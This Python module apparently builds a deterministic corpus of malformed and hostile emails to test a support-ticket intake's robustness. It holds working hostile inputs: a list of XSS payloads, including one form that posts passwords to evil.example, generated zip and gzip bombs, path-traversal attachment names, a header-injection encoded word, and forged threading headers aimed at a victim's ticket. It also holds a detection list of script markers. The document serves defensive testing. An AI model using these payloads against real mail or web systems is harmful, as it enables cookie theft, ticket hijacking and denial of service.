"""A deterministic corpus of malformed and malicious emails, for the intake to survive.

``build_corpus(size, seed, victim)`` gives ``size`` emails spread evenly over the KINDS (broken MIME,
wrong charsets, nesting 100+ deep, huge headers and lines, zip bombs, script in HTML, forged threading
headers aimed at ``victim``'s ticket, NUL bytes, invalid base64/QP, 8-bit headers, RFC 2047 abuse, empty
messages, 10 MB+ bodies, thousands of recipients, mail loops). The same arguments give the same bytes.
Each email says which outcomes are acceptable: "stored", "quarantined:<reason code>" or
"refused:<SMTP code>". Every email is CRLF-terminated as SMTP delivers it, so the SHA-256 of ``raw`` is
the digest under which ombud keeps its source.
"""

from __future__ import annotations

import base64
import functools
import gzip
import hashlib
import io
import random
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

SUPPORT = "support@northwind.example"
MB = 1024 * 1024


@dataclass(frozen=True)
class Victim:
    """The customer whose ticket forged headers aim at: their address, a Message-ID ombud stored for
    them, their ticket number and the Message-ID of ombud's reply on it."""

    email: str = "victim@customers.example"
    message_id: str = "victim.1@customers.example"
    ticket_id: int = 1
    reply_id: str = "ombud.1.2@northwind.example"


@dataclass(frozen=True)
class HostileEmail:
    kind: str
    name: str
    raw: bytes
    mail_from: str
    rcpt_tos: tuple[str, ...]
    expect: frozenset[str]
    # Text that must never be stored where it could run (script payloads).
    forbidden_html: tuple[str, ...] = ()
    # The Message-IDs or subject tokens of the victim this email tries to thread into.
    forged: bool = False

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.raw).hexdigest()


def crlf(data: bytes) -> bytes:
    """``data`` with every line ending CRLF and a final CRLF, as smtplib sends it and the receiver keeps."""
    fixed = data.replace(b"\r\n", b"\n").replace(b"\r", b"\n").replace(b"\n", b"\r\n")
    return fixed if fixed.endswith(b"\r\n") else fixed + b"\r\n"


def headers(sender: str, n: int, kind: str, *, subject: str = "Help please", extra: str = "") -> bytes:
    return (
        f"From: Customer {n} <{sender}>\r\nTo: Northwind Support <{SUPPORT}>\r\nSubject: {subject}\r\n"
        f"Date: Mon, 3 Jun 2024 10:00:00 +0000\r\nMessage-ID: <{kind}.{n}@hostile.example>\r\n{extra}"
    ).encode()


STORED = frozenset({"stored"})
Make = Callable[[random.Random, int, Victim], tuple[bytes, dict[str, object]]]


def _sender(kind: str, n: int) -> str:
    return f"{kind.replace('_', '-')}{n}@hostile{n % 7}.example"


# -- the kinds ----------------------------------------------------------------------------------------------
def broken_mime(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("broken_mime", n)
    h = headers(s, n, "broken_mime")
    variants = [
        h
        + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="NEVER"\r\n\r\n'
        + b"My order is late.\r\n",
        h
        + b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        + b"--B\r\nContent-Type: text/plain\r\n\r\nunterminated",
        h + b"Content-Type: multipart/mixed\r\n\r\n--\r\n\r\nno boundary parameter\r\n",
        h + b"Content-Type: ;;;/;;\r\nContent-Transfer-Encoding: \r\n\r\ngarbage type\r\n",
        h + b"This line has no colon and ends the headers\r\nbody without a blank line\r\n",
        h + b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n' + b"--B\r\n\r\n" * 1000 + b"--B--\r\n",
        h + b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\n'
        b'see file\r\n--B\r\nContent-Disposition: attachment; filename="../../../etc/passwd"\r\n\r\n'
        b'root:x:0:0\r\n--B\r\nContent-Disposition: attachment; filename="C:\\\\Windows\\\\x.exe"\r\n\r\n'
        b"MZ\r\n--B--\r\n",
        h + b'Content-Type: multipart/alternative; boundary="A"; boundary="B"\r\n\r\n--B\r\n--A\r\n\r\nx\r\n',
        h + b"Content-Type: text/plain; charset=\r\nContent-Type: text/html\r\n\r\n<p>two types</p>\r\n",
        h
        + b'Content-Type: multipart/mixed; boundary="'
        + b"x" * 5000
        + b'"\r\n\r\n--'
        + b"x" * 5000
        + b"\r\n\r\nlong boundary\r\n",
    ]
    return variants[n % len(variants)], {"mail_from": s}


def bad_charset(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("bad_charset", n)
    charsets = [
        (b"x-unknown-evil", "Caf\u00e9 r\u00e9sum\u00e9".encode()),
        (b"utf-8", "Caf\u00e9 na\u00efve".encode("latin-1")),  # lies: it is Latin-1
        (b"utf-16", b"\xff\xfeh\x00i\x00\x00\xd8\x00\x00"),  # a lone surrogate and a NUL
        (b"utf-7", b"+AGEAYgBj- +2D3eAA- broken +ZZZ"),
        (b"", "plain \u00e9".encode()),
        (b'"utf 8 "', "spaced label \u00e9".encode()),
        (b"gb18030", b"\x81\x30\x81\x30 \xff\xff invalid"),
        (b"iso-2022-jp", b"\x1b$B\x24\x22\x1b(B \x1b$Z broken escape"),
        (b"../../etc", b"path as a charset"),
    ]
    charset, body = charsets[n % len(charsets)]
    raw = (
        headers(s, n, "bad_charset")
        + b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset="
        + charset
        + b"\r\n\r\n"
        + body
        + bytes(rng.randrange(128, 256) for _ in range(20))
        + b"\r\n"
    )
    return raw, {"mail_from": s}


def deep_nesting(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("deep_nesting", n)
    depth = [100, 150, 250, 1200][n % 4]
    if n % 8 < 4:
        raw = headers(s, n, "deep_nesting") + b"MIME-Version: 1.0\r\n"
        for i in range(depth):
            raw += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i)
        raw += b"Content-Type: text/plain\r\n\r\nthe text at the bottom\r\n"
        for i in reversed(range(depth)):
            raw += b"--b%d--\r\n" % i
    else:
        raw = headers(s, n, "deep_nesting") + b"MIME-Version: 1.0\r\n"
        for i in range(depth):
            raw += b"Content-Type: message/rfc822\r\n\r\nFrom: layer%d@inner.example\r\nSubject: %d\r\n" % (
                i,
                i,
            )
        raw += b"\r\nthe text at the bottom\r\n"
    return raw, {"mail_from": s, "expect": frozenset({"stored", "quarantined:mime_too_deep"})}


def huge_headers(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("huge_headers", n)
    variant = n % 5
    if variant == 0:  # one 60 KB line: under the receiver's 64 KiB line limit
        return headers(s, n, "huge_headers", subject="A" * 60_000) + b"\r\nbody\r\n", {"mail_from": s}
    if variant == 1:  # a 1 MB subject folded over 100,000 lines
        return headers(s, n, "huge_headers", subject="x" + "\r\n y" * 100_000) + b"\r\nbody\r\n", {
            "mail_from": s
        }
    if variant == 2:  # 50,000 headers
        extra = "".join(f"X-Filler-{i}: {'v' * 20}\r\n" for i in range(50_000))
        return headers(s, n, "huge_headers", extra=extra) + b"\r\nbody\r\n", {"mail_from": s}
    if variant == 3:  # one header line over the line limit
        return headers(s, n, "huge_headers", subject="B" * 100_000) + b"\r\nbody\r\n", {
            "mail_from": s,
            "expect": frozenset({"refused:500"}),
        }
    refs = "\r\n ".join(f"<r{i}.{rng.randrange(10**9)}@x.example>" for i in range(20_000))
    return headers(s, n, "huge_headers", extra=f"References: {refs}\r\n") + b"\r\nbody\r\n", {"mail_from": s}


def huge_lines(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("huge_lines", n)
    variant = n % 3
    if variant == 0:
        return headers(s, n, "huge_lines") + b"\r\n" + b"word " * 12_000 + b"\r\n", {"mail_from": s}
    if variant == 1:
        html = b"<p>" + b"<b>x</b>" * 7_000 + b"</p>"
        return headers(s, n, "huge_lines", extra="Content-Type: text/html\r\n") + b"\r\n" + html + b"\r\n", {
            "mail_from": s
        }
    return headers(s, n, "huge_lines") + b"\r\n" + b"y" * 200_000 + b"\r\n", {
        "mail_from": s,
        "expect": frozenset({"refused:500"}),
    }


def _member(name: str) -> zipfile.ZipInfo:
    """A zip entry with a fixed date (the default is now: the corpus would differ from run to run)."""
    info = zipfile.ZipInfo(name, date_time=(2024, 6, 3, 10, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


@functools.lru_cache(maxsize=8)
def zip_bomb(kind: int) -> tuple[str, str, bytes]:
    """(file name, content type, bytes) of an archive that expands far beyond what it weighs."""
    buffer = io.BytesIO()
    zeros = b"\0" * MB
    if kind == 0:  # 64 MB of zeros in a 64 KB zip
        with (
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
            archive.open(_member("zeros.bin"), "w") as member,
        ):
            for _ in range(64):
                member.write(zeros)
        return "invoice.zip", "application/zip", buffer.getvalue()
    if kind == 1:  # nested: a zip of 10 zips of 10 zips of 16 MB each
        inner = io.BytesIO()
        with (
            zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
            archive.open(_member("layer.bin"), "w") as member,
        ):
            for _ in range(16):
                member.write(zeros)
        middle = io.BytesIO()
        with zipfile.ZipFile(middle, "w", zipfile.ZIP_DEFLATED) as archive:
            for i in range(10):
                archive.writestr(_member(f"inner{i}.zip"), inner.getvalue())
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for i in range(10):
                archive.writestr(_member(f"middle{i}.zip"), middle.getvalue())
        return "photos.zip", "application/zip", buffer.getvalue()
    if kind == 2:  # gzip, 64 MB of zeros
        with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=9, mtime=0) as packed:
            for _ in range(64):
                packed.write(zeros)
        return "log.txt.gz", "application/gzip", buffer.getvalue()
    # a tar.gz holding a zip bomb
    bomb = zip_bomb(0)[2]
    with (
        gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as packed,
        tarfile.open(fileobj=packed, mode="w") as archive,
    ):
        info = tarfile.TarInfo("invoice.zip")
        info.size, info.mtime = len(bomb), 0
        archive.addfile(info, io.BytesIO(bomb))
    return "backup.tar.gz", "application/gzip", buffer.getvalue()


def zip_bombs(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("zip_bombs", n)
    filename, content_type, data = zip_bomb(n % 4)
    encoded = base64.encodebytes(data)
    raw = (
        headers(s, n, "zip_bombs", subject="Invoice attached")
        + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="Z"\r\n\r\n'
        + b"--Z\r\nContent-Type: text/plain\r\n\r\nPlease see the attached file.\r\n"
        + f"--Z\r\nContent-Type: {content_type}\r\nContent-Transfer-Encoding: base64\r\n"
        f'Content-Disposition: attachment; filename="{filename}"\r\n\r\n'.encode()
        + encoded
        + b"--Z--\r\n"
    )
    return raw, {"mail_from": s}


XSS = [
    "<script>alert(document.cookie)</script>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<svg onload="alert(1)"><circle/></svg>',
    '<body onload="alert(1)">',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="https://tracker.example/pixel.gif?id=42">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">'
    "</style></mglyph></table></mtext></math>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<p title="&quot;><script>alert(1)</script>">attr</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]
FORBIDDEN = (
    "<script",
    "onerror",
    "onload",
    "javascript:",
    "vbscript:",
    "<iframe",
    "<svg",
    "<object",
    "<embed",
    "<form",
    "<meta",
    "<base",
    "<style",
    "<link",
    "data:text",
    "tracker.example",
    "style=",
)


def html_xss(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("html_xss", n)
    payloads = [*rng.sample(XSS, 4), XSS[n % len(XSS)]]
    html = "<html><body><p>My invoice is wrong.</p>" + "".join(payloads) + "</body></html>"
    if n % 2:
        raw = (
            headers(s, n, "html_xss")
            + b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            + html.encode()
            + b"\r\n"
        )
    else:
        raw = (
            headers(s, n, "html_xss")
            + b'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="A"\r\n\r\n'
            + b"--A\r\nContent-Type: text/plain\r\n\r\nMy invoice is wrong. <script>alert(2)</script>\r\n"
            + b"--A\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(html.encode())
            + b"--A--\r\n"
        )
    return raw, {"mail_from": s, "forbidden_html": FORBIDDEN}


def forged_threading(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("forged_threading", n)
    ticket = f"[#{victim.ticket_id}]"
    own = f"<forged.{n}@hostile.example>"
    variants = [
        (f"Re: Your ticket {ticket}", own, f"In-Reply-To: <{victim.message_id}>\r\n"),
        ("Re: refund", own, f"References: <{victim.message_id}> <{victim.reply_id}>\r\n"),
        (f"Re: {ticket}", own, f"In-Reply-To: <{victim.reply_id}>\r\nReferences: <{victim.reply_id}>\r\n"),
        ("Re: refund", f"<{victim.message_id}>", f"In-Reply-To: <{victim.message_id}>\r\n"),
        ("hello", f"<{victim.reply_id}>", ""),
        (
            f"Re: {ticket}",
            own,
            "Received: from mx.customers.example by mx.northwind.example; Mon, 3 Jun 2024 10:00:00 +0000\r\n"
            f"X-Original-From: {victim.email}\r\nReply-To: {victim.email}\r\n",
        ),
        (f"{ticket} {ticket} [#999999999999]", own, f"In-Reply-To: {victim.message_id}\r\n"),
    ]
    subject, message_id, extra = variants[n % len(variants)]
    display = f'"{victim.email}"' if n % 2 else "Mallory"
    raw = (
        f"From: {display} <{s}>\r\nTo: {SUPPORT}\r\nSubject: {subject}\r\nMessage-ID: {message_id}\r\n{extra}"
        "\r\nPlease send me the details of this order.\r\n"
    ).encode()
    # ombud's own Message-ID is a mail loop whoever sends it.
    expect = frozenset({"quarantined:mail_loop"}) if message_id == f"<{victim.reply_id}>" else STORED
    return raw, {"mail_from": s, "expect": expect, "forged": True}


def nul_bytes(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("nul_bytes", n)
    variants = [
        headers(s, n, "nul_bytes", subject="a\x00b") + b"\r\nbo\x00dy\x00\r\n",
        headers(s, n, "nul_bytes", subject="=?utf-8?q?null=00here?=") + b"\r\ntext\r\n",
        headers(s, n, "nul_bytes") + b"Content-Type: text/html\r\n\r\n<p>a\x00b<script>x</script></p>\r\n",
        headers(s, n, "nul_bytes")
        + b'Content-Type: multipart/mixed; boundary="N"\r\n\r\n--N\r\nContent-Type: text/plain\r\n\r\nsee\r\n'
        b'--N\r\nContent-Disposition: attachment; filename="a\x00b\xe9.txt"\r\n\r\n\x00\x00\x00\r\n--N--\r\n',
        (
            f"From: Nul\x00Name <{s}>\r\nTo: {SUPPORT}\r\nMessage-ID: <nul\x00{n}@x.example>\r\n\r\nhi\r\n"
        ).encode(),
        headers(s, n, "nul_bytes")
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(b"decoded\x00nul\x00"),
    ]
    return variants[n % len(variants)], {"mail_from": s}


def bad_transfer_encoding(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("bad_transfer_encoding", n)
    bodies = [
        (b"base64", b"!!!!@@@@====aGVsbG8=\r\n===\r\nnot base64 at all\r\n"),
        (b"base64", base64.encodebytes(bytes(rng.randrange(256) for _ in range(300)))[:-7]),
        (b"quoted-printable", b"=ZZ=0=\r\nsoft break at the end=\r\n=E9t=C3=A9=\r\n=="),
        (b"x-uuencode", b"begin 644 x\r\n#86)C\r\n`\r\nend\r\n"),
        (b"8bit", bytes(range(256))),
        (b"7bit", "\u00e9\u00e8 8-bit in 7bit".encode()),
        (b"base64; garbage", b"aGVsbG8gd29ybGQ=\r\n"),
    ]
    encoding, body = bodies[n % len(bodies)]
    raw = (
        headers(s, n, "bad_transfer_encoding")
        + b"Content-Transfer-Encoding: "
        + encoding
        + b"\r\n\r\n"
        + body
    )
    return raw, {"mail_from": s}


def eight_bit_headers(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("eight_bit_headers", n)
    variants = [
        b"Subject: caf\xe9 \xff\xfe latin-1\r\n",
        "Subject: Gr\u00fc\u00dfe aus K\u00f6ln (raw UTF-8)\r\n".encode(),
        b'Content-Type: text/plain; charset="\xe9\xe9"\r\n',
        b'Content-Disposition: attachment; filename="r\xe9sum\xe9.pdf"\r\n',
        b'Content-Type: multipart/mixed; boundary="\xff\xfe"\r\n',
        b"Reply-To: J\xe9r\xf4me <j\xe9@hostile.example>\r\n",
        b"X-Mailer: \xc3\x28 invalid UTF-8\r\n",
    ]
    raw = (
        f"From: Customer {n} <{s}>\r\nTo: {SUPPORT}\r\nMessage-ID: <eight.{n}@hostile.example>\r\n".encode()
        + variants[n % len(variants)]
        + b"\r\nbody \xe9\r\n"
    )
    return raw, {"mail_from": s}


def rfc2047_abuse(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("rfc2047_abuse", n)
    variants = [
        "=?x-evil?q?abc?= =?utf-8?b?////?= =?utf-8?q?=ZZ?=",
        "\r\n ".join("=?utf-8?b?w6k=?=" for _ in range(100_000)),  # 1.8 MB of encoded words, folded
        "=?utf-8?q?line=0D=0ABcc:_everyone@evil.example?=",
        "=?utf-8?b?" + base64.b64encode(b"\xed\xa0\x80 surrogate").decode() + "?=",
        "=?utf-8*en?q?lang_tag?= =?UTF-8?Q?=E2=80=AE_right-to-left?=",
        "=?utf-8?q?" + "=C3" * 500 + "?=",
    ]
    subject = variants[n % len(variants)]
    sender_name = "=?utf-8?q?" + "victim@customers.example?=" if n % 2 else "=?unknown?q?x?="
    # An encoded word that decodes to an address: read as the address by some parsers, never a customer.
    expect = frozenset({"stored", "quarantined:bad_sender"}) if n % 2 else STORED
    raw = (
        f"From: {sender_name} <{s}>\r\nTo: {SUPPORT}\r\nSubject: {subject}\r\n"
        f"Message-ID: <rfc2047.{n}@hostile.example>\r\n"
        "Content-Disposition: attachment; filename==?utf-8?q?..=2F..=2Fetc=2Fpasswd?=\r\n\r\nbody\r\n"
    ).encode()
    return raw, {"mail_from": s, "expect": expect}


def empty(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("empty", n)
    variants: list[tuple[bytes, frozenset[str]]] = [
        (b"", frozenset({"quarantined:no_sender"})),
        (b"\r\n", frozenset({"quarantined:no_sender"})),
        (headers(s, n, "empty"), STORED),
        (headers(s, n, "empty") + b"\r\n", STORED),
        (b"From: \r\nSubject: no sender\r\n\r\nbody\r\n", frozenset({"quarantined:no_sender"})),
        (b"From: <>\r\n\r\n", frozenset({"quarantined:no_sender"})),
        (headers(s, n, "empty") + b"Content-Type: multipart/mixed; boundary=E\r\n\r\n--E--\r\n", STORED),
    ]
    raw, expect = variants[n % len(variants)]
    return raw, {"mail_from": s, "expect": expect}


def huge_body(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("huge_body", n)
    variant = n % 4
    if variant == 0:  # 12 MB of text in short lines
        line = b"the parcel never arrived and nobody answers my calls\r\n"
        return headers(s, n, "huge_body") + b"\r\n" + line * (12 * MB // len(line)), {"mail_from": s}
    if variant == 1:  # 11 MB of HTML, base64
        html = b"<div><p>word <b>x</b></p></div>" * (8 * MB // 32)
        return (
            headers(
                s, n, "huge_body", extra="Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n"
            )
            + b"\r\n"
            + base64.encodebytes(html),
            {"mail_from": s},
        )
    if variant == 2:  # 11 MB of quote headers, the slowest text for the quote splitter
        return headers(s, n, "huge_body") + b"\r\n" + b"On Mon wrote:\r\n" * (11 * MB // 15), {"mail_from": s}
    # over OMBUD_MAX_EMAIL_BYTES (25 MB by default): refused before it is read
    return headers(s, n, "huge_body") + b"\r\n" + (b"z" * 998 + b"\r\n") * (26 * MB // 1000), {
        "mail_from": s,
        "expect": frozenset({"refused:552"}),
    }


def many_recipients(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("many_recipients", n)
    count = [2_000, 5_000, 20_000][n % 3]
    to = ",\r\n ".join(f"user{i}@list{i % 13}.example" for i in range(count))
    raw = (
        f"From: {s}\r\nTo: {to}\r\nCc: {to}\r\nSubject: to everyone\r\n"
        f"Message-ID: <rcpt.{n}@hostile.example>\r\n\r\nhello all\r\n"
    ).encode()
    envelope = tuple(f"user{i}@northwind.example" for i in range(1_500 if n % 2 else 20))
    return raw, {"mail_from": s, "rcpt_tos": envelope}


def loops(rng: random.Random, n: int, victim: Victim) -> tuple[bytes, dict[str, object]]:
    s = _sender("loops", n)
    received = "".join(
        f"Received: from mx{i}.loop.example by mx{i + 1}.loop.example; "
        f"Mon, 3 Jun 2024 10:00:{i % 60:02d} +0000\r\n"
        for i in range(60)
    )
    variants: list[tuple[bytes, frozenset[str]]] = [
        (
            (
                f"From: Support <{SUPPORT}>\r\nTo: {SUPPORT}\r\nSubject: Re: x\r\n"
                f"Message-ID: <l{n}@x.example>\r\n\r\nloop\r\n"
            ).encode(),
            frozenset({"quarantined:mail_loop"}),
        ),
        (
            (
                f"From: {s}\r\nTo: {SUPPORT}\r\nMessage-ID: <ombud.{n}.{n}@northwind.example>\r\n\r\nmine\r\n"
            ).encode(),
            frozenset({"quarantined:mail_loop"}),
        ),
        (
            (
                received + f"From: {s}\r\nTo: {SUPPORT}\r\nMessage-ID: <hops.{n}@x.example>\r\n\r\nround\r\n"
            ).encode(),
            frozenset({"quarantined:mail_loop"}),
        ),
        (
            headers(s, n, "loops", subject="Automatic reply: Re: x", extra="Auto-Submitted: auto-replied\r\n")
            + b"\r\nI am away.\r\n",
            STORED,
        ),
        (
            (
                f"From: MAILER-DAEMON@{s.split('@')[1]}\r\nTo: {SUPPORT}\r\nSubject: Undelivered\r\n"
                f"Message-ID: <dsn.{n}@x.example>\r\nContent-Type: multipart/report; boundary=R\r\n\r\n"
                f"--R\r\nContent-Type: message/delivery-status\r\n\r\nAction: failed\r\n--R--\r\n"
            ).encode(),
            frozenset({"quarantined:bounce"}),
        ),
    ]
    raw, expect = variants[n % len(variants)]
    return raw, {"mail_from": s, "expect": expect}


KINDS: dict[str, Make] = {
    "broken_mime": broken_mime,
    "bad_charset": bad_charset,
    "deep_nesting": deep_nesting,
    "huge_headers": huge_headers,
    "huge_lines": huge_lines,
    "zip_bombs": zip_bombs,
    "html_xss": html_xss,
    "forged_threading": forged_threading,
    "nul_bytes": nul_bytes,
    "bad_transfer_encoding": bad_transfer_encoding,
    "eight_bit_headers": eight_bit_headers,
    "rfc2047_abuse": rfc2047_abuse,
    "empty": empty,
    "huge_body": huge_body,
    "many_recipients": many_recipients,
    "loops": loops,
}
# Variants per kind: a subset that takes one index of each variant covers every way of every kind.
VARIANTS = {
    "broken_mime": 10,
    "bad_charset": 9,
    "deep_nesting": 8,
    "huge_headers": 5,
    "huge_lines": 3,
    "zip_bombs": 4,
    "html_xss": 2,
    "forged_threading": 7,
    "nul_bytes": 6,
    "bad_transfer_encoding": 7,
    "eight_bit_headers": 7,
    "rfc2047_abuse": 6,
    "empty": 7,
    "huge_body": 4,
    "many_recipients": 3,
    "loops": 5,
}


def make_one(kind: str, n: int, *, seed: int = 10, victim: Victim | None = None) -> HostileEmail:
    """The ``n``th email of ``kind`` (deterministic for the same seed and victim)."""
    rng = random.Random(f"{seed}:{kind}:{n}")
    raw, extra = KINDS[kind](rng, n, victim or Victim())
    mail_from = str(extra["mail_from"])
    rcpt = extra.get("rcpt_tos", (SUPPORT,))
    return HostileEmail(
        kind=kind,
        name=f"{kind}-{n}",
        raw=crlf(raw),
        mail_from=mail_from,
        rcpt_tos=tuple(rcpt),  # type: ignore[arg-type]
        expect=extra.get("expect", STORED),  # type: ignore[arg-type]
        forbidden_html=tuple(extra.get("forbidden_html", ())),  # type: ignore[arg-type]
        forged=bool(extra.get("forged", False)),
    )


def build_corpus(size: int = 1000, *, seed: int = 10, victim: Victim | None = None) -> list[HostileEmail]:
    """``size`` emails, the kinds interleaved (kind 0, kind 1, ... kind 0, ...) so a flood mixes them."""
    names = list(KINDS)
    return [make_one(names[i % len(names)], i // len(names), seed=seed, victim=victim) for i in range(size)]


def every_variant(
    *, seed: int = 10, victim: Victim | None = None, skip: frozenset[str] = frozenset()
) -> list[HostileEmail]:
    """One email of every variant of every kind (the pytest subset), minus the kinds in ``skip``."""
    return [
        make_one(kind, n, seed=seed, victim=victim)
        for kind, count in VARIANTS.items()
        if kind not in skip
        for n in range(count)
    ]
